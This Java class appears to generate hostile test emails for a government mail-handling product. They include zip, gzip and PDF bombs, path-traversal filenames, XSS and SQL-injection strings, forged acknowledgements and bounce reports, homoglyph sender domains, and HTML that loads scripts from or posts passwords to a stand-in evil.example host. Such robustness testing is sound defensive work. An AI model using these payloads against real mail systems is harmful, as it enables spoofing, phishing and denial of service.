package th.sala.mail;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Random;
import java.util.function.IntFunction;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import th.sala.files.Pdfs;

/// Mails that want to break, fool or flood whoever reads them: each cause of `mail/hostile.tsv`
/// made anew from a seed.
public final class HostileMails {
    private static final int MEGABYTE = 1024 * 1024;

    /// @param guard what stands against it
    /// @param reads `read`, or the reason why the reader refuses it; `either` if variants differ
    /// @param becomes what the product makes of it: the reason why a person is asked, `letter`, or
    ///   the answer of the listener
    public record Cause(String name, String guard, String reads, String becomes) {
        @Override
        public String toString() {
            return name;
        }
    }

    /// What an attacker knows, or guesses.
    ///
    /// @param central of the agency that is attacked
    /// @param local an authorised person of it
    /// @param answerer the central account of the agency whose answer we wait for
    /// @param recipient to whom our mail went
    /// @param ours the message id of our mail
    public record Target(
            String central, String local, String answerer, String recipient, String ours) {}

    private final Target target;
    private final Random random;
    private final int seed;

    private HostileMails(Target target, int seed) {
        this.target = target;
        this.seed = seed;
        this.random = new Random(seed);
    }

    public static List<Cause> all() {
        return Corpus.rows("hostile.tsv").stream()
                .map(row -> new Cause(row.get(0), row.get(1), row.get(2), row.get(3)))
                .toList();
    }

    public static byte[] make(Cause cause, Target target, int seed) {
        return new HostileMails(target, seed).made(cause.name());
    }

    private byte[] made(String cause) {
        return switch (cause) {
            case "multiparts in depth" -> bytes(head("") + nested(51 + random.nextInt(3000)));
            case "mails in mails" ->
                    bytes(
                            head("")
                                    + "Content-Type: message/rfc822\r\n\r\nFrom: c@c.example\r\n"
                                            .repeat(1000 + random.nextInt(10_000))
                                    + "\r\nx");
            case "parts in breadth" ->
                    bytes(mixed("--b\r\n\r\nx\r\n".repeat(1000 + random.nextInt(50_000))));
            case "empty parts" -> bytes(mixed("--b\r\n".repeat(2000 + random.nextInt(50_000))));
            case "many headers" ->
                    bytes(
                            head("X-%d: y\r\n".formatted(seed).repeat(1001 + random.nextInt(5000)))
                                    + "\r\nx");
            case "headers in a part" ->
                    bytes(
                            mixed(
                                    "--b\r\n"
                                            + "X: y\r\n".repeat(1001 + random.nextInt(5000))
                                            + "\r\nx\r\n--b--"));
            case "a long header line" ->
                    bytes(
                            head("X: " + "a".repeat(300_000 + random.nextInt(MEGABYTE)) + "\r\n")
                                    + "\r\nx");
            case "a long folded header" ->
                    bytes(
                            head(
                                            "X: a\r\n"
                                                    + " bbbbbbbbb\r\n"
                                                            .repeat(30_000 + random.nextInt(5000)))
                                    + "\r\nx");
            case "a long body line" ->
                    bytes(head("") + "\r\n" + "a".repeat(70_000 + random.nextInt(3 * MEGABYTE)));
            case "encoded words without end" ->
                    bytes(
                            head("X-Y: z\r\n")
                                    + "Comments: "
                                    + folded("=?utf-8?B?4Lir?=", 12_000)
                                    + "\r\nx");
            case "encoded words in the subject" ->
                    bytes(
                            "From: a@a.example\r\nSubject: "
                                    + folded(
                                            "=?utf-8?%s?4Lir?=".formatted(pick("B", "Q", "b")),
                                            9000)
                                    + "\r\nx");
            case "encoded words that are none" ->
                    bytes(
                            "From: =?utf-8?B?%%%%?= <a@a.example>\r\nSubject: "
                                    + pick(
                                                    "=?",
                                                    "=?x?",
                                                    "=?utf-8?X?a?=",
                                                    "=?utf-8?Q?=?=",
                                                    "=?utf-8*a*b*c?B?=4?=")
                                            .repeat(200)
                                    + "\r\n\r\nx");
            case "charsets that are none" ->
                    bytes(
                            head(
                                            "Content-Type: text/plain; charset=\""
                                                    + pick(
                                                            "../../etc/passwd",
                                                            "x".repeat(5000),
                                                            "%00",
                                                            "utf-7",
                                                            "\u0e01")
                                                    + "\"\r\n")
                                    + "\r\nx");
            case "segments of a parameter" ->
                    attached(
                            "filename*%d*=%%E0;".formatted(random.nextInt(9)).repeat(3000)
                                    + segments());
            case "parameters without end" -> attached("a=b;".repeat(20_000) + " filename=x.txt");
            case "addresses without end" ->
                    bytes(
                            head("Cc: " + folded("a%d@b.example,".formatted(seed), 14_000) + "\r\n")
                                            .replace("\r\n\r\n", "\r\n")
                                    + "\r\nx");
            case "references without end" ->
                    bytes(
                            head("References: " + folded("<%d@b.example>".formatted(seed), 12_000))
                                            .replace("\r\n\r\n", "\r\n")
                                    + "\r\nx");
            case "two senders" ->
                    bytes(
                            "From: %s\r\n%s: evil@evil.example\r\nSubject: x\r\n\r\nx"
                                    .formatted(target.local, pick("From", "FROM", "from ")));
            case "two addresses in one sender" ->
                    bytes(
                            "From: %s, evil@evil.example\r\nSubject: x\r\n\r\nx"
                                    .formatted(target.answerer));
            case "an address in a name" ->
                    bytes(
                            "From: %s <evil@evil.example>\r\nSubject: x\r\nSala-Act: acknowledgement\r\nIn-Reply-To: %s\r\n\r\nx"
                                    .formatted(
                                            pick(
                                                    "\"" + target.answerer + "\"",
                                                    "\""
                                                            + target.answerer
                                                            + "\" ("
                                                            + target.answerer
                                                            + ")",
                                                    "=?utf-8?Q?"
                                                            + target.answerer.replace("@", "=40")
                                                            + "?="),
                                            target.ours));
            case "an address in a comment" ->
                    bytes(
                            "From: evil@evil.example (%s)\r\nSubject: x\r\nSala-Act: acknowledgement\r\nIn-Reply-To: %s\r\n\r\nx"
                                    .formatted(
                                            "(".repeat(random.nextInt(50)) + target.answerer,
                                            target.ours));
            case "headers twice" ->
                    bytes(
                            head(
                                            "Subject: second\r\nTo: second@b.example\r\nMessage-ID: <second@x>\r\nContent-Type: text/plain\r\n"
                                                    + "Content-Type: text/html\r\nDate: never\r\n")
                                    + "\r\n<script>x</script>");
            case "a line break hidden in a header" ->
                    bytes(
                            "From: evil@evil.example\r\nSubject: x%sSala-Act: acknowledgement%sIn-Reply-To: %s\r\n\r\nx"
                                    .formatted(
                                            pick(
                                                    "\r",
                                                    "\0",
                                                    "\u000b",
                                                    "\u0085",
                                                    "=?utf-8?Q?=0D=0A?="),
                                            pick("\r", "\0", "\u000c"),
                                            target.ours));
            case "bare line feeds" ->
                    bytes(
                            ("From: evil@evil.example\nSubject: x\nMessage-ID: <%d@lf.example>\n\nFrom: %s\nSala-Act: acknowledgement\n")
                                    .formatted(seed, target.answerer));
            case "NUL everywhere" -> bytes(spread(head("") + "\r\ntext", "\0"));
            case "controls in the text" ->
                    bytes(
                            head("Content-Type: text/plain; charset=utf-8\r\n")
                                    + "\r\na\u001b[2Jb\u0007c\u0008\u009b31md\u202etxt\u2066e");
            case "overrides in the subject" ->
                    bytes(
                            "From: =?utf-8?B?%s?= <evil@evil.example>\r\nSubject: =?utf-8?B?%s?=\r\n\r\nx"
                                    .formatted(
                                            word("\u202egro.alas"),
                                            word("\u2067" + "ด่วน\u202d\u200f")));
            case "a path as name" ->
                    attached(
                            "filename=\""
                                    + pick(
                                            "../../../etc/passwd",
                                            "..\\\\..\\\\x.exe",
                                            "/root/.ssh/x",
                                            "C:\\\\x.txt",
                                            "a/../b")
                                    + "\"");
            case "controls in a name" ->
                    attached(
                            "filename*=utf-8''a%00%0d%0aX-Evil:%20b%1b.pdf"
                                    + pick("", "%08", "%7f"));
            case "overrides in a name" ->
                    attached(
                            "filename*=utf-8''"
                                    + pick("%E2%80%AE", "%E2%81%A7", "%E2%80%8F")
                                    + "fdp.exe");
            case "a device as name" ->
                    attached("filename=\"" + pick("con", "NUL.pdf", "lpt1.txt", "aux.") + "\"");
            case "a name without end" ->
                    attached(
                            "filename*=utf-8''"
                                    + "%E0%B8%81".repeat(2000 + random.nextInt(2000))
                                    + ".pdf");
            case "markup as name" -> attached("filename=\"<img src=x onerror=alert(1)>.pdf\"");
            case "base64 of rubbish" -> encoded("base64", rubbish(20_000));
            case "quoted-printable of rubbish" ->
                    encoded("quoted-printable", "=".repeat(50_000) + rubbish(5000));
            case "an unknown encoding" ->
                    encoded(pick("x-uuencode", "8bit; x", "base65", "\u0e01"), "text");
            case "a boundary that never ends" ->
                    bytes(mixed("--b\r\nContent-Type: text/plain\r\n\r\nx"));
            case "a boundary of signs" ->
                    bytes(
                            head(
                                            "Content-Type: multipart/mixed; boundary=\""
                                                    + pick(
                                                            "",
                                                            " ",
                                                            ".*",
                                                            "(((",
                                                            "a".repeat(5000),
                                                            "--")
                                                    + "\"\r\n")
                                    + "\r\n--x\r\n\r\nx\r\n");
            case "types that are none" ->
                    bytes(
                            head(
                                            "Content-Type: "
                                                    + pick(
                                                            "/",
                                                            "multipart/",
                                                            "a/b/c",
                                                            ";",
                                                            "multipart/mixed",
                                                            "message/rfc822; x")
                                                    + "\r\n")
                                    + "\r\nx");
            case "a date that is none" ->
                    bytes(
                            "From: a@a.example\r\nSubject: x\r\nDate: "
                                    + pick(
                                            "99 Foo 99999 99:99:99 +9999",
                                            "9".repeat(9000),
                                            "Fri, 20 Nov -1 00:00",
                                            "(".repeat(900))
                                    + "\r\n\r\nx");
            case "an id of markup" ->
                    bytes(
                            "From: a@a.example\r\nSubject: x\r\nMessage-ID: <"
                                    + pick(
                                            "<script>@x",
                                            "a".repeat(20_000),
                                            "'; DROP TABLE letters.incoming; --@x",
                                            "\u202e@x")
                                    + ">\r\n\r\nx");
            case "SQL in each field" ->
                    bytes(
                            "From: \"'; DROP TABLE x; --\" <a'--@a.example>\r\nSubject: ' OR 1=1; \\\\' {{7*7}} ${7*7} __${7*7}__\r\n\r\n' OR ''='");
            case "a zip bomb" ->
                    zipped("a.zip", zip(Integer.toString(seed), new byte[60 * MEGABYTE]));
            case "zip bombs in a zip" -> zipped("a.zip", manyBombs());
            case "a zip of many entries" -> zipped("a.zip", zip(5000 + random.nextInt(5000)));
            case "a zip that leads out" ->
                    zipped(
                            "a.zip",
                            zip(pick("../../x", "/etc/x", "C:\\x", "a/../../x"), new byte[1]));
            case "a zip within its limits by lies" ->
                    zipped("a.zip", lying(zip("x", new byte[1000])));
            case "a gzip bomb" -> zipped("a.gz", gzip(50 + random.nextInt(50)));
            case "a PDF bomb" -> zipped("a.pdf", Pdfs.bomb(200));
            case "half a PDF" ->
                    zipped(
                            "a.pdf",
                            java.util.Arrays.copyOf(Pdfs.of("x"), 200 + random.nextInt(300)));
            case "a winmail.dat of lies" -> tnef(lying(Corpus.winmail("x.pdf", new byte[100], "")));
            case "values without end in winmail.dat" ->
                    tnef(Corpus.winmailOfEmptyValues(1500 + random.nextInt(500)));
            case "RTF bombs in winmail.dat" ->
                    tnef(Corpus.winmail("x.pdf", new byte[9], "{".repeat(100_000)));
            case "ASN.1 in depth" -> p7m(asn1(500 + random.nextInt(5000)));
            case "signed content of rubbish" ->
                    p7m(rubbish(3000).getBytes(StandardCharsets.ISO_8859_1));
            case "signed content with a header of ours" ->
                    signed(
                            "From: "
                                    + target.answerer
                                    + "\r\nSala-Act: acknowledgement\r\nIn-Reply-To: "
                                    + target.ours
                                    + "\r\n\r\nx");
            case "active HTML" -> html(active());
            case "a tracking image" ->
                    html(
                            "<p>ก</p><img width=1 height=1 src=\"https://evil.example/t?u=%d\"><div style=\"background:url(//evil.example/b)\">"
                                    .formatted(seed));
            case "HTML that never ends" ->
                    html(
                            pick("<!--", "<a href='", "<script>", "<", "&", "<style", "<p title=\"")
                                    .repeat(100_000));
            case "character references of markup" ->
                    html("&#60;script&#62;alert(1)&lt;/script&gt; &#x202e; &#0; &#7; &#99999999;");
            case "a forged acknowledgement" ->
                    bytes(sala("evil@evil.example", "acknowledgement", target.ours));
            case "a forged acknowledgement of a guessed letter" ->
                    bytes(
                            sala(
                                    target.answerer,
                                    "acknowledgement",
                                    "<%08x-0000-4000-8000-000000000000@%s>"
                                            .formatted(random.nextInt(), domain(target.central))));
            case "a forged return" -> bytes(sala("evil@evil.example", "return", target.ours));
            case "a forged word of forwarding" ->
                    bytes(
                            sala("evil@evil.example", "notice", target.ours)
                                    .replace(
                                            "Sala-Number",
                                            "Sala-Notice-Of: forwarding\r\nSala-Forwarded-To: evil@evil.example\r\nSala-Number"));
            case "an act twice" ->
                    bytes(
                            sala(
                                    "evil@evil.example",
                                    "letter\r\nSala-Act: acknowledgement",
                                    target.ours));
            case "a forged report of a guessed mail" ->
                    bytes(
                            report(
                                    "failed",
                                    target.recipient,
                                    "<guess-%d@x.example>".formatted(seed)));
            case "a forged report of another recipient" ->
                    bytes(report("failed", "else%d@far.example".formatted(seed), target.ours));
            case "a forged report in words" ->
                    bytes(
                            "From: mailer-daemon@evil.example\r\nSubject: failure notice\r\nX-Failed-Recipients: %s\r\n\r\nMessage-ID: <guess@x.example>"
                                    .formatted(target.recipient));
            case "a report with empty lines without end" ->
                    bytes(
                            "From: mailer-daemon@evil.example\r\nSubject: failure notice\r\nX-Failed-Recipients: %s\r\n\r\n-- original message\r\n%sx"
                                    .formatted(
                                            target.recipient,
                                            "\r\n".repeat(1_000_000 + random.nextInt(1000))));
            case "a report within a report" ->
                    bytes(
                            mixed(
                                    "--b\r\n"
                                            + report("failed", target.recipient, target.ours)
                                                    .replaceFirst("(?s)^.*?(?=Content-Type)", "")
                                            + "\r\n--b--"));
            case "a forged local sender" ->
                    bytes(
                            "From: %s\r\nSubject: %d\r\n\r\nx"
                                    .formatted(
                                            pick(
                                                    target.local,
                                                    target.local.toUpperCase(java.util.Locale.ROOT),
                                                    "ผู้ว่าฯ <" + target.local + ">",
                                                    "<@relay.example:" + target.local + ">"),
                                            seed));
            case "a forged local central account" ->
                    bytes("From: %s\r\nSubject: %d\r\n\r\nx".formatted(target.central, seed));
            case "a domain that looks alike" ->
                    bytes(
                            sala(
                                    target.answerer.replace("o", "\u043e").replace("e", "\u0435"),
                                    "acknowledgement",
                                    target.ours));
            case "a domain that looks alike in letters" ->
                    bytes(
                            sala(
                                    target.answerer.replace(
                                            ".example",
                                            pick(
                                                    ".examp1e",
                                                    ".example.evil.example",
                                                    "-example.example")),
                                    "acknowledgement",
                                    target.ours));
            case "an absence reply that says received" ->
                    bytes(
                            "From: %s\r\nSubject: Automatic reply: x\r\nAuto-Submitted: auto-replied\r\nIn-Reply-To: %s\r\n\r\nได้รับหนังสือแล้ว"
                                    .formatted(target.answerer, target.ours));
            case "a hundred and one hops" ->
                    bytes(
                            "Received: from a by b; Fri, 20 Nov 2026 12:00:00 +0700\r\n"
                                            .repeat(101 + random.nextInt(50))
                                    + head("")
                                    + "\r\nx");
            case "a class hidden by a prefix" ->
                    bytes(
                            "From: nok@thaleluang.example\r\nSubject: =?utf-8?B?%s?=\r\n\r\nx"
                                    .formatted(
                                            word(
                                                    pick(
                                                            "Fw: ลับ แผน",
                                                            "RE: FW: ลับที่สุด แผน",
                                                            "[EXTERNAL] ลับมาก แผน"))));
            case "nothing that is a mail" ->
                    bytes(
                            pick(
                                    "\r\n",
                                    "hello",
                                    "\0\0\0\0",
                                    "%PDF-1.7",
                                    "GET / HTTP/1.1\r\nHost: x",
                                    "\u00ff\u00fe"));
            case "rubbish" ->
                    rubbish(5000 + random.nextInt(5000)).getBytes(StandardCharsets.ISO_8859_1);
            default -> throw new IllegalArgumentException(cause);
        };
    }

    // ---- what they are made of

    private String pick(String... variants) {
        return variants[Math.floorMod(seed, variants.length)];
    }

    private String head(String more) {
        return "From: evil@evil.example\r\nTo: %s\r\nSubject: hostile %d\r\n%s"
                .formatted(target.central, seed, more);
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static String word(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    private static String domain(String address) {
        return address.substring(address.indexOf('@') + 1);
    }

    private static String nested(int depth) {
        return IntStream.range(0, depth)
                .mapToObj(i ->
                        "Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n"
                                .formatted(i, i))
                .collect(Collectors.joining());
    }

    /// Many times on lines of their own, as one header.
    private static String folded(String piece, int times) {
        return (piece + "\r\n ").repeat(times).stripTrailing() + "\r\n";
    }

    private String mixed(String parts) {
        return head("MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n")
                + "\r\n"
                + parts;
    }

    private String segments() {
        return " filename*1*=%E0%B8; filename*0*=utf-8''a; filename*999*=z";
    }

    private byte[] attached(String parameters) {
        return bytes(
                head(
                                "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; "
                                        + parameters
                                        + "\r\n")
                        + "\r\nx");
    }

    private byte[] encoded(String encoding, String content) {
        return bytes(
                head(
                                "Content-Type: application/octet-stream; name=x.bin\r\nContent-Transfer-Encoding: "
                                        + encoding
                                        + "\r\n")
                        + "\r\n"
                        + content);
    }

    private byte[] zipped(String name, byte[] content) {
        return bytes(
                head(
                                "Content-Type: application/octet-stream; name="
                                        + name
                                        + "\r\nContent-Transfer-Encoding: base64\r\n")
                        + "\r\n"
                        + Base64.getMimeEncoder().encodeToString(content));
    }

    private byte[] tnef(byte[] content) {
        return bytes(
                head(
                                "Content-Type: application/ms-tnef; name=winmail.dat\r\nContent-Transfer-Encoding: base64\r\n")
                        + "\r\n"
                        + Base64.getMimeEncoder().encodeToString(content));
    }

    private byte[] p7m(byte[] content) {
        return bytes(
                head(
                                "Content-Type: application/pkcs7-mime; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n")
                        + "\r\n"
                        + Base64.getMimeEncoder().encodeToString(content));
    }

    private byte[] signed(String entity) {
        return p7m(Corpus.cms("p7m", bytes(entity)));
    }

    private byte[] html(String content) {
        return bytes(
                head(
                                "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n")
                        + "\r\n"
                        + Base64.getMimeEncoder().encodeToString(bytes(content)));
    }

    private String active() {
        return pick(
                "<script src=//evil.example/x></script>ก<script>alert(1)</script>",
                "<svg onload=alert(1)><img src=x onerror=alert(1)>ก",
                "<iframe src=\"javascript:alert(1)\"></iframe><object data=x></object>ก",
                "<base href=//evil.example><form action=//evil.example><input name=password></form>ก",
                "<meta http-equiv=refresh content=\"0;url=//evil.example\"><link rel=stylesheet href=//evil.example/x>ก",
                "<a href=\"javascript:alert(1)\">ก</a><style>@import url(//evil.example)</style>",
                "<math><mtext><![CDATA[<img src=x onerror=alert(1)>]]></mtext></math>ก");
    }

    private String sala(String from, String act, String reference) {
        return "From: %s\r\nTo: %s\r\nSubject: %d\r\nMessage-ID: <%d.%d@evil.example>\r\nSala-Act: %s\r\nSala-Number: 1\r\nIn-Reply-To: %s\r\n\r\nx"
                .formatted(from, target.central, seed, seed, act.hashCode(), act, reference);
    }

    private static String report(String action, String recipient, String id) {
        return Reports.failed(recipient, id).replace("Action: failed", "Action: " + action);
    }

    private static String spread(String text, String what) {
        return IntStream.range(0, text.length())
                .mapToObj(i -> i % 7 == 3 ? what + text.charAt(i) : String.valueOf(text.charAt(i)))
                .collect(Collectors.joining());
    }

    private String rubbish(int length) {
        var bytes = new byte[length];
        random.nextBytes(bytes);
        return new String(bytes, StandardCharsets.ISO_8859_1);
    }

    private byte[] lying(byte[] whole) {
        for (int i = 0; i < 8; i++) {
            whole[8 + random.nextInt(Math.min(150, whole.length - 8))] = (byte) random.nextInt(256);
        }
        return whole;
    }

    private static byte[] asn1(int depth) {
        var bytes = new ByteArrayOutputStream();
        for (int i = 0; i < depth; i++) {
            bytes.write(0x30);
            bytes.write(0x80);
        }
        return bytes.toByteArray();
    }

    private static byte[] zip(String name, byte[] content) {
        return zip(1, _ -> name, content);
    }

    private static byte[] zip(int entries) {
        return zip(entries, i -> "f" + i, new byte[0]);
    }

    private static byte[] manyBombs() {
        return zip(30, i -> i + ".zip", zip("x", new byte[30 * MEGABYTE]));
    }

    private static byte[] zip(int entries, IntFunction<String> name, byte[] content) {
        var bytes = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(bytes)) {
            for (int i = 0; i < entries; i++) {
                zip.putNextEntry(new ZipEntry(name.apply(i)));
                zip.write(content);
                zip.closeEntry();
            }
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        return bytes.toByteArray();
    }

    private static byte[] gzip(int megabytes) {
        var bytes = new ByteArrayOutputStream();
        try (var gzip = new GZIPOutputStream(bytes)) {
            for (int i = 0; i < megabytes; i++) {
                gzip.write(new byte[MEGABYTE]);
            }
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        return bytes.toByteArray();
    }
}
